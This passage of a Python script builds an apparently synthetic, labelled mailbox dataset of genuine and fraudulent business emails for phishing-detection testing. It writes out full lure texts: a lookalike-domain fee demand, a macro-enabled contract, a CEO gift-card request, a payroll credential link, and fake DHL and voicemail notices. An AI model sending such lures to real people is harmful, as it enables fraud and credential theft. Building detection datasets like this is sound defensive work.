T12.say(jason, at(2025, 3, 10, 23, 48, MY), "Ok noted, will confirm the qty tomorrow morning with my boss.\n\nSent from Zoho Mail for Android", client="zoho_android", label=G,
        scen="G5 KL Glow Jason from Zoho Mail Android at 23:48")
conv(T12, at(2025, 3, 11, 11, 0), 4, first_me=True)
# ---- T13 Desert Rose L/C: G15 iPhone at night, A9 lookalike
T13 = Thread(omar, "L/C No. DRT-LC-2502 for Hanbit order", "m365eu", "outlook_me")
t = conv(T13, at(2025, 1, 20, 9, 0), 6)
T13.say(omar, at(2025, 2, 4, 23, 41, DXB), "Noted, will ask the bank to amend the latest shipment date tomorrow.\n\nOmar", client="iphone_m365", label=G, scen="G15 Omar from iPhone at 23:41 Dubai")
t = conv(T13, at(2025, 2, 5, 13, 0), 4, first_me=True)
fake_om = Pt("Omar Haddad", "omar@desertrose-tradinq.example", "lk_desert", DXB)
T13.say(fake_om, t + D(1, 2), "Dear Ji-yoon,\n\nFurther to the amendment below, our bank (Emirates Islamic) has advised that the amendment fee and the discrepancy charges must be paid by the "
        "beneficiary before the documents are released. Please settle USD 1,850.00 through the bank's payment portal in the attached advice so that we can avoid delay at Jebel Ali.\n\n"
        "Best regards,\nOmar Haddad\nPurchasing Manager\nDesert Rose Trading LLC\n\n________________________________\nFrom: Ji-yoon Kim <jiyoon.kim@hanbit-cosmetics.example>\nSubject: RE: L/C No. DRT-LC-2502 for Hanbit order\n\n"
        "Thank you Omar. We agree the amendment charges are for the beneficiary's account.",
        client="lk_desert", label=HJ("lookalike-domain"), scen="A9 desertrose-tradinq.example: L/C amendment fee PDF with payment-portal link, altered quote", quote=False, advance=False,
        atts=[("LC_Amendment_Advice_DRT-LC-2502.pdf", pdf(["EMIRATES ISLAMIC - AMENDMENT ADVICE", "Amendment fee USD 1,850.00", "Pay online: click here"], uris=["https://ei-tradepay-portal.example/lc/pay"]), "application/pdf")])
conv(T13, t + D(3), 4, first_me=True)
# ---- T14 Desert Rose bank change (announced in T13): G6 letter, G7 first invoice; O1 orphan
T14 = Thread(omar, "Desert Rose Trading - change of bank account", "m365eu", "outlook_me")
T14.say(omar, at(2025, 3, 17, 10, 5, DXB), ptxt(omar, "en", "As mentioned in our L/C discussion, we are moving our banking to Mashreq from 1 April. Attached is the signed and stamped letter. "
        "Please verify by calling me or our finance manager on the office landline +971 4 339 0812 before using it."), label=G, scen="G6 Desert Rose real bank-change letter (PDF), announced earlier",
        atts=[("DRT_Bank_Change_Letter_Mashreq.pdf", pdf(["DESERT ROSE TRADING LLC", "Change of bank details effective 1 April 2025", "Mashreq Bank PSC, SWIFT BOMLAEAD"], "Microsoft Word"), "application/pdf")])
T14.say(ME, at(2025, 3, 18, 15, 20), mtxt(T14, "Thank you Omar. I called your office this afternoon and Ms. Rania confirmed the new details. Our finance team has updated your record."))
T14.say(omar, at(2025, 4, 8, 11, 0, DXB), ptxt(omar, "en", "For the refund of the short-shipped cartons (USD 620) please use the Mashreq account as per our letter. Thanks again for verifying."),
        label=G, scen="G7 Desert Rose's first message using the verified new bank")
T14.say(ME, at(2025, 4, 9, 10, 0), mtxt(T14, "Noted, refund will be sent this week."))
rania = Pt("Rania Saleh", "rania@desertrose-trading.example", "m365eu", DXB, sig="Rania Saleh\nFinance Manager | Desert Rose Trading LLC")
emit(rania, "m365eu", at(2025, 4, 15, 9, 30, DXB), [("Omar Haddad", omar.email)], "RE: Refund short-shipment Hanbit",
     "Omar,\n\nRefund from Hanbit received today (USD 620). Adding Ji-yoon so she can close it on her side.\n\n" + rania.sig, refs=[make_mid(omar, "m365eu", at(2025, 4, 14, 9, 0, DXB))],
     cc=[ENE], label=O, scen="O1 Desert Rose finance replies to an internal mail Ji-yoon was not on (parent missing)")
# ---- T26 Desert Rose price list
T26 = Thread(omar, "Hanbit price list 2025", "m365eu", "outlook_me")
conv(T26, at(2024, 12, 9, 10, 0), 6, first_me=True)


# ---- T15 上海美妍 contract (Chinese, GBK): A4 server-hijack .docm, G18 Foxmail switch
T15 = Thread(wangli, "关于2025年度代理合同及报价", "alimail", "outlook_me")
t = conv(T15, at(2024, 12, 16, 10, 0), 8, first_me=True)
T15.say(wangli, t + D(1, 1), "金老师：\n\n合同法务已修改，请查收附件修订版，启用编辑后可查看修订痕迹。请今天内确认回签。\n\n王丽",
        label=HJ("server-hijack"), scen="A4 上海美妍 real Alimail (same headers, GBK): revised contract .docm, quotes nothing", quote=False, advance=False,
        atts=[("2025年度代理合同_修订版.docm", ooxml("docm", "2025年度独家代理合同\n修订版", macro=True), "application/vnd.ms-word.document.macroEnabled.12")])
t = conv(T15, t + D(3), 4, first_me=True)
T15.say(wangli, t, ptxt(wangli, "zh", "合同已经盖章扫描，原件下周快递给您。我们公司邮箱客户端换成 Foxmail 了，如果格式有点乱请见谅。"), client="foxmail", label=G,
        scen="G18 Wang Li switches from Alimail web to Foxmail (UTF-8), announced in the mail")
conv(T15, t + D(2), 4, first_me=True)
# ---- T16 上海美妍 samples: G8 out-of-office, G24 baidu pan link
T16 = Thread(wangli, "样品寄送及产品图片", "alimail", "outlook_me")
t = conv(T16, at(2025, 1, 20, 10, 0), 4, first_me=True)
T16.say(ME, t, mtxt(T16, "样品已经通过 DHL 寄出，运单号 4471920385。"))
T16.say(wangli, t + D(0, 1), "您好，我正在春节休假中（1月27日至2月5日），期间邮件回复可能延迟。紧急事宜请联系 021-6482 3300。\n\n王丽", label=G,
        scen="G8 上海美妍 Chinese out-of-office auto-reply", advance=False, quote=False, extra=[("Auto-Submitted", "auto-replied")])
t = conv(T16, at(2025, 2, 6, 10, 0), 3)
T16.say(wangli, t, ptxt(wangli, "zh", "产品图片我们拍好了，文件比较大，放在百度网盘了：\nhttps://pan.baidu.com/s/1" + alnum(22) + "  提取码: mw25"), label=G,
        scen="G24 上海美妍 shares product photos via pan.baidu.com")
conv(T16, t + D(1), 3, first_me=True)
# ---- T17 CEO internal: G19 mobile app at 06:32 ; A5 CEO display-name spoof from gmail
T17 = Thread(ceo, "두바이 박람회(Beautyworld ME) 참가 건", "bizworks", "bizworks")
t = conv(T17, at(2025, 2, 10, 9, 0), 5, first_me=True)
T17.say(ceo, at(2025, 2, 14, 6, 32), "김과장, 부스 위치 B열로 확정하고 진행해요. 출장 인원은 3명으로.\n\n이정훈 드림\n\nBizworks 모바일에서 보냄", client="bizworks_app", label=G,
        scen="G19 대표님 from the Bizworks mobile app at 06:32")
conv(T17, at(2025, 2, 14, 9, 10), 2, first_me=True)
fake_ceo = Pt("이정훈", "hanbit.ceo.jhlee@gmail.com", "gmail", KST, lang="ko")
emit(fake_ceo, "gmail", at(2025, 5, 9, 14, 12), [KOE], "김과장 지금 자리에 있나요?",
     "김과장, 지금 외부 미팅 중이라 통화가 어렵습니다.\n거래처 담당자들 선물로 문화상품권이 급하게 필요합니다. 10만원권 20매 온라인으로 구매해서 핀번호를 이 메일로 보내주세요.\n비용은 내일 법인카드로 정산해 줄게요. 다른 직원들한테는 아직 말하지 말고요.\n\n대표 이정훈",
     html=False, label=HJ("display-name-spoof"), scen="A5 CEO '이정훈' from gmail.com: 문화상품권 gift card PINs, no payload, no quote")
# ---- T18 internal trade docs: G3 new colleague, G11 forward, A12 account-takeover payroll
T18 = Thread(seoyeon, "해외영업팀 무역서류 공유", "bizworks", "bizworks")
t = conv(T18, at(2024, 8, 26, 10, 0), 6)
T18.say(seoyeon, at(2024, 10, 10, 10, 2), "과장님, 정원관세법인에서 온 수입요건 안내 메일 전달드려요. 중국 샘플 건 참고하시면 될 것 같아요.\n\n박서연 드림\n\n"
        "--------- 전달된 메일 ---------\n보낸사람: \"정해원\" <hw.jung@jungwon-customs.example>\n받는사람: seoyeon.park@hanbit-cosmetics.example\n날짜: 2024-10-10 09:41:12\n제목: 화장품 원료 수입요건 안내\n\n"
        "화장품 원료 수입 시 식약처 표준통관예정보고 대상 여부 확인이 필요합니다. 첨부 안내문 참고 부탁드립니다.", quote=False, label=G,
        scen="G11 colleague forwards the customs broker's mail (FW:) with PDF", atts=[("수입요건_안내문.pdf", pdf(["Import requirements for cosmetic raw materials"]), "application/pdf")])
T18.say(ME, at(2025, 3, 3, 9, 0), mtxt(T18, "팀원분들께, 이번 주부터 한도윤 사원님이 해외영업팀에 합류했습니다. 서연 대리님과 함께 무역서류 업무 맡아주실 예정입니다."),
        cc=[(doyoon.name, doyoon.email)])
T18.say(doyoon, at(2025, 3, 4, 10, 15), "과장님, 안녕하세요. 한도윤입니다.\n환영해 주셔서 감사합니다. 공유해 주신 서류 폴더 확인했고, 이번 주 호치민 선적 건부터 서류 작성 같이 하겠습니다.\n\n" + doyoon.sig,
        label=G, scen="G3 new colleague 한도윤 writes after being introduced")
t = conv(T18, at(2025, 3, 10, 10, 0), 4)
T18.say(seoyeon, at(2025, 5, 21, 2, 14), "과장님, 인사팀에서 상반기 성과급 지급 명세 공유해 달라고 해서 전달드립니다.\n아래에서 그룹웨어 로그인 후 확인 가능하다고 합니다.\n\nhttps://bizworks-payslip.example/hr/2025H1?u=jiyoon.kim\n\n박서연 드림",
        client="tb_biz", orig_ip="197.211.58.92", label=HJ("account-takeover"), scen="A12 colleague 박서연's account via Thunderbird/IMAP from a foreign IP at 02:14: payroll link", advance=False, quote=False)
conv(T18, at(2025, 5, 22, 10, 0), 2, first_me=True)
# ---- O2 Sejin replies to 박서연's mail, Ji-yoon added on Cc
emit(sejin, "naverworks", at(2025, 4, 2, 15, 20), [(seoyeon.name, seoyeon.email)], "Re: 쌀 토너 COA 및 MSDS 요청",
     "박서연 대리님, 안녕하세요.\n요청하신 COA와 MSDS 첨부드립니다. 김지윤 과장님도 참조로 넣었습니다.\n\n" + sejin.sig + "\n\n-----Original Message-----\nFrom: \"박서연\"<seoyeon.park@hanbit-cosmetics.example>\nSubject: 쌀 토너 COA 및 MSDS 요청\n\n부장님, 쌀 토너 Lot 250318 COA와 MSDS 부탁드립니다.",
     refs=[make_mid(seoyeon, "bizworks", at(2025, 4, 2, 10, 0))], cc=[KOE], label=O, scen="O2 Sejin replies to 박서연's mail that Ji-yoon was not on",
     atts=[("COA_RiceToner_250318.pdf", pdf(["CERTIFICATE OF ANALYSIS", "Lot 250318"], "Hancom PDF 1.3.0.505"), "application/pdf")])


# ---------------------------------------------------------------- notices, lists, newsletters
INFRA["sys"] = "sys"
def note(name, em, t, subj, text, via, label=None, scen=None, extra=(), refs=(), html_only=None, to=None, cs="utf-8", client="sys"):
    who = Pt(name, em, client, KST)
    return emit(who, client, t, to or [KOE], subj, text, refs=refs, html=html_only is None, extra=extra, label=label, scen=scen, via=via, html_only=html_only, cs=cs)
V_HELP = ("helpdesk.bizworks-mail.example", "211.43.203", ("hanbit-cosmetics.example", "bw2023"), [])
V_DHL = ("mta-out3.dhl-notify.example", "159.122.10", ("dhl-notify.example", "dhl1"), [])
V_BANK = ("mail.woorim-bank.example", "203.235.77", ("woorim-bank.example", "wb"), [])
V_LIST = ("lists.kcexport.example", "49.247.11", ("lists.kcexport.example", "lists"), [])
V_NEWS = ("mta07.stibee-mail.example", "13.125.88", ("stibee-mail.example", "st1"), [])
V_TAX = ("send.etaxhub.example", "61.97.12", ("etaxhub.example", "et"), [])
# helpdesk tickets (G25)
for i, (d, s, txt) in enumerate([((2024, 9, 30), "[HELP-2117] Outlook 연동 설정 요청", "요청하신 Outlook IMAP/SMTP 연동 설정 안내 드립니다. 첨부된 가이드 참고 부탁드립니다."),
                                 ((2025, 1, 15), "[HELP-2291] 그룹웨어 비밀번호 만료 문의", "비밀번호 초기화 처리했습니다. 아래 링크에서 새 비밀번호를 설정해 주세요.\nhttps://gw.hanbit-cosmetics.example/account/reset?ticket=HELP-2291&t=" + alnum(24)),
                                 ((2025, 4, 28), "[HELP-2405] 외부 메일 대용량 첨부 한도", "대용량 첨부 한도를 10GB로 상향했습니다.")]):
    ack = note("한빛 IT헬프데스크", "helpdesk@hanbit-cosmetics.example", at(*d, 9, 5), s, f"티켓이 접수되었습니다: {s}\n담당자 배정 후 안내드리겠습니다.", V_HELP, extra=[("Auto-Submitted", "auto-generated")])
    note("한빛 IT헬프데스크", "helpdesk@hanbit-cosmetics.example", at(*d, 14, 30), "Re: " + s, "김지윤님, 안녕하세요.\n" + txt + "\n\n-- IT헬프데스크 정우진", V_HELP, refs=[ack],
         label=G if i == 1 else ("genuine", "genuine-reply"), scen="G25 helpdesk ticket reply with a password-reset link to the own groupware" if i == 1 else "helpdesk ticket reply")
# mailing list (G10 + context)
LF = "\n\n_______________________________________________\nkc-export 메일링리스트 | 화장품 수출기업 실무 포럼\nkc-export@lists.kcexport.example\n구독 해지: https://lists.kcexport.example/mailman/listinfo/kc-export"
lh = lambda: [("List-Id", "<kc-export.lists.kcexport.example>"), ("List-Unsubscribe", "<https://lists.kcexport.example/mailman/options/kc-export>"), ("Precedence", "list"), ("Sender", "kc-export-bounces@lists.kcexport.example")]
topics = ["베트남 DAV 화장품 공고 서류 변경", "MoCRA 시설등록 갱신 일정", "할랄 인증 말레이시아 수출", "중국 NMPA 비특수 화장품 備案 질문", "UAE ECAS 등록 비용"]
for i, tp in enumerate(topics):
    t0 = at(2024, 9, 12, 10, 0) + D(35 * i)
    m0 = note(f"회원{i + 1}", f"member{i + 1}@cosme-export{i}.example", t0, f"[kc-export] {tp}", f"{tp} 관련해서 최근 경험 있으신 분 계신가요?" + LF, V_LIST, extra=lh())
    m1 = note(f"회원{i + 7}", f"member{i + 7}@kbeauty-trade{i}.example", t0 + D(1), f"Re: [kc-export] {tp}", f"저희는 지난달에 진행했는데 대행사 통해서 2주 정도 걸렸습니다. 서류 목록 공유드립니다.\nhttps://docs.google.com/spreadsheets/d/1{alnum(30)}/edit" + LF,
               V_LIST, extra=lh(), refs=[m0], label=G if i == 1 else ("genuine", "genuine-reply"), scen="G10 mailing-list reply with footer, subject tag and a sheet link" if i == 1 else "list reply")
# DHL notifications (G12) + A6 fake thread
for i, d in enumerate([(2024, 10, 22), (2025, 1, 21), (2025, 3, 12), (2025, 5, 6)]):
    awb = f"{R.randint(10**9, 10**10 - 1)}"
    html = f"<html><body><p>고객님의 DHL 특송 화물(운송장 {awb})이 발송되었습니다.</p><p><a href=\"https://www.dhl.com/kr-ko/home/tracking.html?tracking-id={awb}\">배송 조회</a></p></body></html>"
    note("DHL Express", "noreply@dhl-notify.example", at(*d, 17, 40), f"DHL Express 발송 알림 - 운송장 {awb}", f"고객님의 DHL 특송 화물(운송장 {awb})이 발송되었습니다.\n배송 조회: https://www.dhl.com/kr-ko/home/tracking.html?tracking-id={awb}",
         V_DHL, label=G if i == 2 else None, scen="G12 DHL shipment notification without reply headers, links" if i == 2 else None)
str1 = Pt("DHL Express Korea", "clearance@kr-dhl-clearance.example", "stranger1", KST, lang="ko")
emit(str1, "stranger1", at(2025, 5, 8, 11, 3), [KOE], "RE: DHL Express 배송 예정 - 운송장 4471920385",
     "고객님 안녕하세요, DHL 코리아 통관팀입니다.\n\n문의하신 화물은 관부가세 미납으로 인천 통관센터에 보류 중입니다. 48시간 내 미납 시 반송 처리됩니다.\n아래 링크에서 관세 38,500원 결제 후 배송이 재개됩니다.\n\n"
     "https://kr-dhl-clearance.example/pay?awb=4471920385\n\n> 안녕하세요, 운송장 4471920385 화물 언제 도착 예정인지 문의드립니다.\n> 한빛코스메틱 김지윤",
     refs=[f"<{alnum(20)}@hanbit-cosmetics.example>"], label=HJ("fake-thread"), scen="A6 fake DHL reply: fabricated quote, duty-payment link on unknown domain")
# A14 voicemail fake thread, phone number only
str2 = Pt("Bizworks Voice", "voicemail@vm-notify-center.example", "stranger2", KST, lang="ko")
emit(str2, "stranger2", at(2025, 6, 3, 8, 47), [KOE], "RE: 부재중 음성메시지 (1건) - 02-3452-7781",
     "김지윤님, 부재중 음성메시지 1건이 있습니다 (길이 0:42).\n보안 정책 변경으로 음성메시지는 이메일로 전송되지 않습니다.\n확인하시려면 음성사서함 센터 070-4821-5503 으로 전화하신 후 인증번호를 눌러주세요.\n\n본 메일은 발신 전용입니다.",
     refs=[f"<{hx(24)}@vm-notify-center.example>"], html=False, label=HJ("fake-thread"), scen="A14 fake voicemail 'reply', no quote, call-back phone number only")
# Bizworks security notice (G13) + e-tax (G20)
note("Bizworks 보안센터", "no-reply@bizworks-mail.example", at(2025, 3, 14, 8, 1), "[Bizworks] 새로운 기기에서 로그인되었습니다",
     "jiyoon.kim@hanbit-cosmetics.example 계정에 새로운 기기(iPhone, 서울)에서 로그인되었습니다.\n본인이 아닌 경우 비밀번호를 변경하세요: https://gw.hanbit-cosmetics.example/security/sessions",
     V_HELP, label=G, scen="G13 Bizworks new-device sign-in notice with links")
for i, d in enumerate([(2024, 10, 10), (2024, 11, 10), (2024, 12, 10), (2025, 1, 10), (2025, 2, 10), (2025, 3, 10), (2025, 4, 10)]):
    note("etaxhub 전자세금계산서", "bill@etaxhub.example", at(*d, 9, 0), f"[전자세금계산서] 대성패키지에서 세금계산서를 발행하였습니다 ({d[1]}월분)",
         f"공급자: 대성패키지 / 공급받는자: 한빛코스메틱(주)\n합계금액: {R.randint(3, 12) * 1100000:,}원\n세금계산서 조회: https://www.etaxhub.example/view?no={HX(16)}", V_TAX,
         label=G if i == 4 else None, scen="G20 e-tax invoice notice with a view link" if i == 4 else None)
# bank FX deposit notices and newsletters (context)
for i in range(12):
    d = at(2024, 8, 28, 10, 0) + D(R.randint(0, 290))
    note("우림은행 외환센터", "fx-notice@woorim-bank.example", d, "[우림은행] 해외 외화입금 도착 안내", f"한빛코스메틱(주) 고객님, 외화입금이 도착하였습니다.\n금액: USD {R.randint(5, 60) * 1000:,}.00\n송금인: {R.choice(['GLOWHAUS BEAUTY', 'SAIGON BEAUTY DISTRIBUTION', 'KL GLOW SDN BHD', 'DESERT ROSE TRADING'])}\n기업뱅킹에서 입금처리를 진행해 주세요.", V_BANK)
for i in range(22):
    d = at(2024, 8, 7, 7, 30) + D(7 * i + R.randint(0, 3) * 2)
    if d.weekday() >= 5: d += D(2)
    note("KOTRA 뷰티 수출 뉴스", "news@kbeauty-export-news.example", d, f"[K-뷰티 수출 인사이트] {['동남아 스킨케어 트렌드', '미국 MoCRA 대응 가이드', '중동 할랄 화장품 시장', '중국 跨境电商 규제 동향'][i % 4]} ({i + 31}호)",
         "이번 호 주요 기사\n- 시장 동향\n- 바이어 상담회 일정\n기사 보기: https://kbeauty-export-news.example/n/" + str(i + 31) + "\n수신거부: https://kbeauty-export-news.example/unsub", V_NEWS,
         extra=[("List-Unsubscribe", "<https://kbeauty-export-news.example/unsub>"), ("Precedence", "bulk")])


# ---------------------------------------------------------------- write out in arrival order
MSGS.sort(key=lambda m: m[0])
labels = ["mailbox\tmessage_id\tlabel\tkind"]; scen = ["file\tscenario\tdescription"]
for i, (t, folder, raw, mid, label, sc) in enumerate(MSGS, 1):
    with open(f"{root}/mailboxes/{MB}/{folder}/{i}.eml", "wb") as f: f.write(raw)
    if label:
        labels.append(f"{MB}\t{mid}\t{label[0]}\t{label[1]}")
        sid = (sc or label[1]).split(" ")[0] if sc and sc[0] in "AGO" and sc[1].isdigit() else label[1]
        scen.append(f"mailboxes/{MB}/{folder}/{i}.eml\t{sid}\t{sc or 'in-thread partner reply'}")
open(f"{root}/labels.tsv", "w").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w").write("\n".join(scen) + "\n")
